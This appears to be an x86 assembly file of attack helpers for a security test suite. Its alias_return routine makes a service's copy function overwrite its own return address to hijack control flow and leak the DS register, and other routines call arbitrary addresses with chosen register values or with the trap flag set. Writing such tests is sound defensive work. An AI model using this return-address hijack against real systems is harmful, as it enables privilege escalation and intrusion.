/* What attacks need registers for. */
#include "layout.h"

	.text
/* void jump_with(eax, address): go to an address with a value in EAX; come back if it returns. */
	.globl jump_with
	.type jump_with, @function
jump_with:
	mov 4(%esp), %eax
	call *8(%esp)
	ret
	.size jump_with, . - jump_with

/* void step_through(service): call it with TF set. */
	.globl step_through
	.type step_through, @function
step_through:
	mov 4(%esp), %eax
	pushf
	orl $0x100, (%esp)
	popf
	nop
	call *%eax
	pushf
	andl $~0x100, (%esp)
	popf
	ret
	.size step_through, . - step_through

/*
 * int alias_return(copy, data_segment): let a service copy an address to where its own return address would lie were it on
 * this stack: below its arguments and the first return address. Returns 1 where that sent it to `aliased`, which tells DS.
 */
	.globl alias_return
	.type alias_return, @function
alias_return:
	push %ebx
	push %esi
	mov 12(%esp), %ebx			/* copy(to, from, size) */
	mov 16(%esp), %esi			/* data_segment */
	mov %esp, alias_esp
	lea -20(%esp), %eax
	push $4
	push $aliased_address
	push %eax
	call *%ebx
	add $12, %esp
	xor %eax, %eax
	pop %esi
	pop %ebx
	ret
aliased:
	mov %ds, %ecx
	mov $DSAPP, %eax
	mov %eax, %ds
	mov alias_esp, %esp
	mov %ecx, (%esi)
	mov $1, %eax
	pop %esi
	pop %ebx
	ret
	.size alias_return, . - alias_return
	.data
	.balign 4
aliased_address:
	.long aliased
	.bss
	.balign 4
alias_esp:
	.skip 4
	.section .note.GNU-stack, "", @progbits
